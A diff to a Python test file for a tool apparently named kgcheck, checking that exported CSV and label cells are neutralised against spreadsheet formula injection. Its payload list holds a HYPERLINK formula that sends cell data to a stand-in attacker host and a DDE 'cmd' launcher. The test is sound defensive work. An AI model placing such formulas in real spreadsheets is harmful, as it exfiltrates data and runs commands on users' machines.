@@ -10,7 +10,7 @@ from typer.testing import CliRunner
 
 from kgcheck.cli import app
 from kgcheck.data.cells import neutralise, restore
-from kgcheck.data.runfolder import read_labels, write_labels
+from kgcheck.data.runfolder import LABEL_COLUMNS, read_labels, write_labels
 
 runner = CliRunner()
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
@@ -74,7 +74,9 @@ def test_export_csv_cells_do_not_start_formulas(tmp_path: Path, scripted) -> Non
 
 def test_labels_csv_neutralises_notes_and_reads_them_back_exactly(tmp_path: Path) -> None:
     path = tmp_path / "labels.csv"
-    rows = [{"fact_id": f"f{i}", "label": "F", "note": payload.strip(), "reviewer": "@ann",
+    # Every column filled (the columns a review does not use are empty strings).
+    rows = [{**dict.fromkeys(LABEL_COLUMNS, ""), "fact_id": f"f{i}", "label": "F",
+             "note": payload.strip(), "reviewer": "@ann",
              "reviewed_at": "2026-01-01T00:00:00Z", "design": "-srs"}
             for i, payload in enumerate(PAYLOADS)]
     write_labels(path, rows)
